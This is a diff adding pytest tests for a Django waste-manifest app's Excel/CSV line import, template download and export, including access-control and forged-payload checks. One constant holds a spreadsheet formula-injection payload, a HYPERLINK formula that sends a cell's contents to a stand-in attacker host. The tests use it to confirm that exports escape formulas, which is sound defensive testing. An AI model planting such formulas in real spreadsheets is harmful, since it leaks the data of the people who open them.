@@ -1,0 +1,451 @@
+"""Excel: the line template, importing lines into a draft (preview, errors, confirm), and the export."""
+
+import csv
+import io
+import sys
+import types
+from datetime import date, datetime
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.core import signing
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+from django.utils.translation import gettext
+
+from accounts.models import AuditEvent
+from manifests import excel, services
+from manifests.models import Status
+from manifests.views.excel import detail_url
+from tests.factories import PASSWORD
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def xlsx(rows, headers=excel.COLUMNS):
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(list(headers))
+    for row in rows:
+        sheet.append(list(row))
+    stream = io.BytesIO()
+    book.save(stream)
+    return stream.getvalue()
+
+
+def upload(client, manifest, content, name="lines.xlsx"):
+    return client.post(
+        reverse("manifests:import_lines", args=[manifest.pk]),
+        {"action": "upload", "file": SimpleUploadedFile(name, content)},
+    )
+
+
+def confirm(client, manifest, payload):
+    return client.post(reverse("manifests:import_lines", args=[manifest.pk]), {"action": "confirm", "payload": payload})
+
+
+def lines_of(manifest):
+    return list(manifest.lines.order_by("position").values_list("position", "waste_code__code", "quantity_kg"))
+
+
+GOOD_ROWS = [
+    ("170203", "Dầu nhớt thải", "lỏng", "Thùng phuy", 3, "125,5"),
+    ("16 01 06", "Bóng đèn huỳnh quang", "solid", "box", "2", 40.25),
+]
+
+
+# --- template ----------------------------------------------------------------------------------------
+
+
+def test_the_template_is_an_xlsx_with_the_machine_headers_and_a_help_sheet(client, world):
+    client.force_login(world.alice)
+    response = client.get(reverse("manifests:import_template"))
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert "attachment" in response["Content-Disposition"]
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    lines_sheet, help_sheet = book.worksheets
+    assert [cell.value for cell in lines_sheet[1]] == list(excel.COLUMNS)
+    assert lines_sheet.max_row == 1  # no sample row that could be imported by mistake
+    help_text = " ".join(str(cell.value) for row in help_sheet.iter_rows() for cell in row if cell.value)
+    for expected in ("solid", "rắn", "lỏng", "bùn", "khí", "drum", "thùng phuy", "125.5", "125,5"):
+        assert expected in help_text
+
+
+def test_the_template_needs_a_login(client, world):
+    response = client.get(reverse("manifests:import_template"))
+    assert response.status_code == 302 and "login" in response["Location"]
+
+
+# --- import: happy path ------------------------------------------------------------------------------
+
+
+def test_a_good_file_is_previewed_then_appended_to_the_draft_on_confirmation(client, chain):
+    w = chain
+    manifest = w.draft()
+    before = lines_of(manifest)
+    assert len(before) == 2
+    client.force_login(w.alice)
+
+    response = client.get(reverse("manifests:import_lines", args=[manifest.pk]))
+    assert response.status_code == 200 and b'type="file"' in response.content
+
+    response = upload(client, manifest, xlsx(GOOD_ROWS))
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert 'value="confirm"' in page
+    assert "17 02 03" in page and "16 01 06" in page
+    assert lines_of(manifest) == before  # the preview saves nothing
+
+    payload = response.context["payload"]
+    response = confirm(client, manifest, payload)
+    assert response.status_code == 302
+    assert response["Location"] == detail_url(manifest)
+    after = lines_of(manifest)
+    assert after[:2] == before
+    assert after[2:] == [(3, "17 02 03", Decimal("125.50")), (4, "16 01 06", Decimal("40.25"))]
+    new = manifest.lines.get(position=3)
+    assert (new.physical_state, new.packaging_type, new.packaging_count, new.description) == ("liquid", "drum", 3, "Dầu nhớt thải")
+    assert AuditEvent.objects.filter(chain=manifest.chain, action="draft.saved", actor=w.alice).count() == 1
+
+
+def test_the_downloaded_template_filled_in_imports(client, chain):
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("manifests:import_template")).content))
+    for row in GOOD_ROWS:
+        book["lines"].append(list(row))
+    stream = io.BytesIO()
+    book.save(stream)
+    response = upload(client, manifest, stream.getvalue())
+    assert [row.ok for row in response.context["rows"]] == [True, True]
+    assert confirm(client, manifest, response.context["payload"]).status_code == 302
+    assert manifest.lines.count() == 4
+
+
+def test_a_csv_saved_by_excel_in_vietnamese_is_read(client, chain):
+    """Excel on a Vietnamese Windows writes ';' between fields and ',' decimals; a BOM at the start."""
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    text = ";".join(excel.COLUMNS) + "\r\n17 02 03;Dầu thải;lỏng;phuy;1;125,5\r\n16 01 06;Bóng đèn;rắn;hộp;2;1.250\r\n"
+    response = upload(client, manifest, text.encode("utf-8-sig"), name="lines.csv")
+    assert response.status_code == 200
+    rows = response.context["rows"]
+    assert [row.errors for row in rows] == [[], []]
+    assert [row.values["quantity_kg"] for row in rows] == [Decimal("125.50"), Decimal("1250.00")]
+    assert [row.values["physical_state"] for row in rows] == ["liquid", "solid"]
+    confirm(client, manifest, response.context["payload"])
+    assert manifest.lines.count() == 4
+
+
+@pytest.mark.parametrize(
+    ("typed", "expected"),
+    [
+        ("125,5", "125.50"), ("125.5", "125.50"), (125.5, "125.50"), (" 125 ", "125.00"), ("1.250,5", "1250.50"),
+        ("1,250.5", "1250.50"), ("1 250,75", "1250.75"), ("1.250", "1250.00"), ("1,250", "1250.00"),
+        ("12.345.678", "12345678.00"), (137.50000000000003, "137.50"), (",5", "0.50"),
+    ],
+)
+def test_quantities_accept_both_decimal_separators(typed, expected):
+    assert excel.parse_quantity(typed) == Decimal(expected)
+
+
+@pytest.mark.parametrize("typed", ["-5", "0", "abc", "1.2.3", "12,3456", "0,125", "1e5", "", None, True])
+def test_bad_quantities_are_refused(typed):
+    with pytest.raises(ValueError):
+        excel.parse_quantity(typed)
+
+
+@pytest.mark.parametrize(("typed", "expected"), [("170203", "17 02 03"), ("17 02 03", "17 02 03"), (170203, "17 02 03"), (10101, "01 01 01"), ("17-02-03", "17 02 03"), ("abc", None)])
+def test_waste_codes_are_normalised(typed, expected):
+    assert excel.normalise_waste_code(typed) == expected
+
+
+def test_the_number_format_does_not_depend_on_the_language(client, chain, settings):
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    for language in ("vi", "en"):
+        client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
+        response = upload(client, manifest, xlsx([("17 02 03", "Dầu", "liquid", "drum", 1, "125,5"), ("17 02 03", "Dầu", "liquid", "drum", 1, "125.5")]))
+        assert [row.values["quantity_kg"] for row in response.context["rows"]] == [Decimal("125.50"), Decimal("125.50")]
+
+
+# --- import: errors ----------------------------------------------------------------------------------
+
+
+def test_a_file_with_bad_rows_shows_each_error_and_saves_nothing(client, chain):
+    w = chain
+    manifest = w.draft()
+    before = lines_of(manifest)
+    client.force_login(w.alice)
+    rows = [
+        ("17 02 03", "Dầu thải", "liquid", "drum", 1, "10"),  # row 2: good
+        ("99 99 99", "Không rõ", "liquid", "drum", 1, "10"),  # row 3: unknown code
+        ("17 02 03", "Dầu thải", "liquid", "drum", 1, "-5"),  # row 4: negative quantity
+        ("17 02 03", "Dầu thải", "plasma", "drum", 1, "10"),  # row 5: bad state
+        (None, None, None, None, None, None),  # blank row, ignored
+        ("16 01 06", "", "solid", "crate", 0, "1"),  # row 7: description, packaging, count
+    ]
+    response = upload(client, manifest, xlsx(rows))
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert 'value="confirm"' not in page and response.context["payload"] == ""
+    by_number = {row.number: row for row in response.context["rows"]}
+    assert by_number[2].ok
+    assert [column for column, _ in by_number[3].errors] == ["waste_code"] and "99 99 99" in by_number[3].errors[0][1]
+    assert [column for column, _ in by_number[4].errors] == ["quantity_kg"]
+    assert [column for column, _ in by_number[5].errors] == ["physical_state"] and "plasma" in by_number[5].errors[0][1]
+    assert [column for column, _ in by_number[7].errors] == ["description", "packaging_type", "packaging_count"]
+    assert 6 not in by_number
+    for number in (3, 4, 5, 7):
+        assert f'id="row-{number}"' in page
+    assert "99 99 99" in page and "plasma" in page
+    assert response.context["bad_count"] == 4
+    assert lines_of(manifest) == before
+
+
+def test_a_forged_or_foreign_confirmation_is_refused_and_saves_nothing(client, chain):
+    w = chain
+    manifest, other = w.draft(), w.draft()
+    before = lines_of(manifest)
+    client.force_login(w.alice)
+    good = upload(client, other, xlsx(GOOD_ROWS)).context["payload"]
+    forged_rows = {"manifest": manifest.pk, "user": w.alice.pk, "rows": [[w.oil.pk, "x", "liquid", "drum", 1, "-5"]]}
+    attempts = [
+        "",
+        good[:-3] + "abc",  # tampered
+        good,  # signed for another draft
+        signing.dumps(forged_rows, salt="another-salt", compress=True),  # signed with another purpose
+    ]
+    for payload in attempts:
+        response = confirm(client, manifest, payload)
+        assert response.status_code == 400
+        assert response.context["errors"] and "form-errors" in response.content.decode()
+    assert lines_of(manifest) == before
+
+
+def test_a_second_confirmation_or_a_draft_changed_meanwhile_is_refused(client, chain):
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    payload = upload(client, manifest, xlsx(GOOD_ROWS)).context["payload"]
+    assert confirm(client, manifest, payload).status_code == 302
+    assert confirm(client, manifest, payload).status_code == 400  # double click: not added twice
+    assert manifest.lines.count() == 4
+
+    payload = upload(client, manifest, xlsx(GOOD_ROWS)).context["payload"]
+    services.update_draft(
+        w.bob, manifest, generator_site=manifest.generator_site, facility_site=manifest.facility_site, permit=manifest.permit,
+        transporter=manifest.transporter, planned_pickup_date=manifest.planned_pickup_date, lines=[w.line()],
+    )
+    response = confirm(client, manifest, payload)
+    assert response.status_code == 400 and response.context["errors"]
+    assert manifest.lines.count() == 1
+
+
+def test_a_confirmation_by_another_user_is_refused(client, chain):
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    payload = upload(client, manifest, xlsx(GOOD_ROWS)).context["payload"]
+    client.force_login(w.bob)  # may edit the same Hà Nội draft, but did not check this file
+    assert confirm(client, manifest, payload).status_code == 400
+    assert manifest.lines.count() == 2
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "message"),
+    [
+        (b"\x00" * (excel.MAX_UPLOAD_BYTES + 1), "big.xlsx", "2 MB"),
+        (b"not a spreadsheet", "lines.xlsx", "XLSX"),
+        (b"hello", "lines.pdf", "XLSX"),
+    ],
+)
+def test_unreadable_or_oversized_files_are_refused(client, chain, content, name, message):
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    response = upload(client, manifest, content, name=name)
+    assert response.status_code == 200
+    errors = response.context["form"].errors["file"]
+    assert any(message in error for error in errors)
+
+
+def test_more_than_500_rows_or_missing_columns_are_refused(client, chain):
+    w = chain
+    manifest = w.draft()
+    client.force_login(w.alice)
+    many = [("17 02 03", "Dầu", "liquid", "drum", 1, "1")] * (excel.MAX_IMPORT_ROWS + 1)
+    response = upload(client, manifest, xlsx(many))
+    assert "500" in " ".join(response.context["form"].errors["file"])
+    response = upload(client, manifest, xlsx([("17 02 03", "Dầu")], headers=("waste_code", "description")))
+    assert "quantity_kg" in " ".join(response.context["form"].errors["file"])
+    response = upload(client, manifest, xlsx([]))
+    assert response.context["form"].errors["file"]
+    assert manifest.lines.count() == 2
+
+
+# --- import: who and when ----------------------------------------------------------------------------
+
+
+def test_a_manifest_past_the_draft_redirects_to_its_page(client, chain):
+    w = chain
+    manifest = services.sign(w.alice, w.draft(), PASSWORD)
+    client.force_login(w.alice)
+    url = reverse("manifests:import_lines", args=[manifest.pk])
+    for response in (client.get(url), upload(client, manifest, xlsx(GOOD_ROWS))):
+        assert response.status_code == 302 and response["Location"] == detail_url(manifest)
+    assert manifest.lines.count() == 2
+
+
+def test_outsiders_get_404_and_viewers_403(client, chain):
+    w = chain
+    manifest = w.draft()
+    url = reverse("manifests:import_lines", args=[manifest.pk])
+    for outsider in (w.zoe, w.fred, w.nobody):
+        client.force_login(outsider)
+        assert client.get(url).status_code == 404
+        assert upload(client, manifest, xlsx(GOOD_ROWS)).status_code == 404
+    client.force_login(w.vera)
+    assert client.get(url).status_code == 403
+    assert upload(client, manifest, xlsx(GOOD_ROWS)).status_code == 403
+    assert manifest.lines.count() == 2
+
+
+# --- export ------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def exported(chain):
+    """Two Alpha manifests (one signed), Alpha named like a formula, and a Zeta draft Alpha cannot see."""
+    w = chain
+    w.alpha.name = HYPERLINK
+    w.alpha.save()
+    w.signed = services.sign(w.alice, w.draft(), PASSWORD)
+    w.draft_hn = w.draft(lines=[w.line(quantity="10")])
+    w.zeta_draft = w.draft(actor=w.zoe, site=w.zeta_site)
+    return w
+
+
+def export(client, **params):
+    return client.get(reverse("manifests:export"), params)
+
+
+def test_the_xlsx_export_has_the_visible_manifests_with_numbers_dates_and_no_formulae(client, exported):
+    w = exported
+    client.force_login(w.alice)
+    response = export(client, format="xlsx")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert response["Content-Disposition"].startswith('attachment; filename="hwms-manifests-')
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    by_number = {row[0].value: row for row in rows}
+    assert set(by_number) == {w.signed.number, w.draft_hn.number}  # not Zeta's draft
+    row = by_number[w.signed.number]
+    _, status, created, pickup, generator, site, province, transporter, facility, total, discrepancy, completed = row
+    assert generator.value == "'" + HYPERLINK and generator.data_type == "s"
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
+    assert status.value == str(Status.READY.label)
+    assert total.data_type == "n" and total.value == pytest.approx(140.5)
+    assert isinstance(created.value, datetime) and created.number_format == "DD/MM/YYYY"
+    assert created.value.date() == timezone.localdate()
+    assert pickup.value.date() == w.signed.planned_pickup_date and pickup.number_format == "DD/MM/YYYY"
+    assert (site.value, province.value, transporter.value, facility.value) == ("Alpha Hà Nội", "Thành phố Hà Nội", "Omega", "Omega")
+    assert completed.value is None
+    assert discrepancy.value == gettext("No")
+    assert by_number[w.draft_hn.number][9].value == 10
+
+
+def test_the_csv_export_has_a_bom_point_decimals_dates_and_escaped_formulae(client, exported):
+    w = exported
+    client.force_login(w.alice)
+    response = export(client, format="csv")
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert len(rows) == 3
+    by_number = {row[0]: row for row in rows[1:]}
+    assert set(by_number) == {w.signed.number, w.draft_hn.number}
+    row = by_number[w.signed.number]
+    assert row[4] == "'" + HYPERLINK
+    assert row[9] == "140.50" and by_number[w.draft_hn.number][9] == "10.00"
+    assert row[2] == timezone.localdate().strftime("%d/%m/%Y")
+    assert row[3] == w.signed.planned_pickup_date.strftime("%d/%m/%Y")
+    assert "Hà Nội" in row[5]
+
+
+def test_the_export_applies_the_list_filters(client, exported):
+    w = exported
+    client.force_login(w.alice)
+    rows = list(csv.reader(io.StringIO(export(client, format="csv", status=Status.DRAFT).content.decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == [w.draft_hn.number]
+
+
+def test_the_export_uses_the_list_filterset_when_there_is_one(client, exported, monkeypatch):
+    import django_filters
+
+    from manifests.models import Manifest
+
+    class ManifestFilter(django_filters.FilterSet):
+        q = django_filters.CharFilter(field_name="number", lookup_expr="exact")
+
+        class Meta:
+            model = Manifest
+            fields = ()
+
+    module = types.ModuleType("manifests.filters")
+    module.ManifestFilter = ManifestFilter
+    monkeypatch.setitem(sys.modules, "manifests.filters", module)
+    w = exported
+    client.force_login(w.alice)
+    for number, expected in ((w.signed.number, [w.signed.number]), (w.zeta_draft.number, [])):
+        rows = list(csv.reader(io.StringIO(export(client, format="csv", q=number).content.decode("utf-8-sig"))))
+        assert [row[0] for row in rows[1:]] == expected  # filtered, and still only what Alpha sees
+
+
+def test_others_export_only_what_they_see(client, exported):
+    w = exported
+    client.force_login(w.zoe)
+    rows = list(csv.reader(io.StringIO(export(client, format="csv").content.decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == [w.zeta_draft.number]
+    client.force_login(w.fred)  # the facility sees the signed manifest, not Alpha's drafts
+    rows = list(csv.reader(io.StringIO(export(client, format="csv").content.decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == [w.signed.number]
+
+
+def test_the_export_is_bounded(client, exported, settings, monkeypatch):
+    w = exported
+    monkeypatch.setattr(excel, "EXPORT_LIMIT", 1)
+    client.force_login(w.alice)
+    response = export(client, format="xlsx")
+    assert response.status_code == 302
+    assert "xlsx" not in response.get("Content-Type", "")
+
+
+def test_the_number_of_queries_does_not_grow_with_the_manifests(client, chain, django_assert_max_num_queries):
+    w = chain
+    w.draft()
+    client.force_login(w.alice)
+    for fmt in ("xlsx", "csv"):
+        with CaptureQueriesContext(connection) as few:
+            assert export(client, format=fmt).status_code == 200
+        for _ in range(10):
+            w.draft(lines=[w.line(quantity="1.5"), w.line(w.lamps, "2")])
+        with django_assert_max_num_queries(len(few.captured_queries)):
+            response = export(client, format=fmt)
+        assert response.status_code == 200
+
+
+def test_export_dates_are_day_first(chain):
+    assert excel.CSVExport._text(date(2026, 3, 4)) == "04/03/2026"
+    assert excel.CSVExport._text(Decimal("1250.5")) == "1250.50"
+    assert excel.neutralise("+1-555") == "'+1-555" and excel.neutralise("@SUM(A1)") == "'@SUM(A1)"
+    assert excel.neutralise("Công ty A") == "Công ty A" and excel.neutralise(Decimal(-1)) == Decimal(-1)
